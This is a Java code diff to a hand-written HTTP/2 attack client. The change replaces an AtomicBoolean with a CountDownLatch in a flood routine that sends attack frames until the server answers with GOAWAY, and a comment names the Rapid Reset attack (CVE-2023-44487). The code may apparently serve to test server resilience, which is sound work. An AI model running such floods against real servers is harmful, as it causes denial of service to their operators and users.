@@ -6,7 +6,8 @@ import java.io.DataOutputStream;
 import java.io.IOException;
 import java.io.OutputStream;
 import java.nio.charset.StandardCharsets;
-import java.util.concurrent.atomic.AtomicBoolean;
+import java.util.concurrent.CountDownLatch;
+import java.util.concurrent.TimeUnit;
 import javax.net.ssl.SSLSocket;
 
 /** A client that means harm: HTTP/2 frames as RFC 9113 defines them, written by hand. */
@@ -24,7 +25,7 @@ final class Http2Frames implements AutoCloseable {
     private final SSLSocket socket;
     private final OutputStream out;
     private final byte[] request;
-    private final AtomicBoolean ended = new AtomicBoolean();
+    private final CountDownLatch ended = new CountDownLatch(1);
 
     private Http2Frames(SSLSocket socket, String authority) throws IOException {
         this.socket = socket;
@@ -77,10 +78,10 @@ final class Http2Frames implements AutoCloseable {
                 int type = in.readUnsignedByte();
                 in.skipNBytes(5);
                 in.skipNBytes(length);
-                if (type == GOAWAY) ended.set(true);
+                if (type == GOAWAY) ended.countDown();
             }
         } catch (IOException e) {
-            ended.set(true);
+            ended.countDown();
         }
     }
 
@@ -91,12 +92,11 @@ final class Http2Frames implements AutoCloseable {
     /** Tells whether the server has had enough. */
     private boolean flood(int most, Attack attack) throws InterruptedException {
         try {
-            for (int i = 0; i < most && !ended.get(); i++) out.write(attack.frames(i));
+            for (int i = 0; i < most && ended.getCount() > 0; i++) out.write(attack.frames(i));
         } catch (IOException e) {
             return true;
         }
-        for (int waits = 0; waits < 100 && !ended.get(); waits++) Thread.sleep(50);
-        return ended.get();
+        return ended.await(5, TimeUnit.SECONDS);
     }
 
     /** Streams that are reset as soon as they are opened (CVE-2023-44487). */
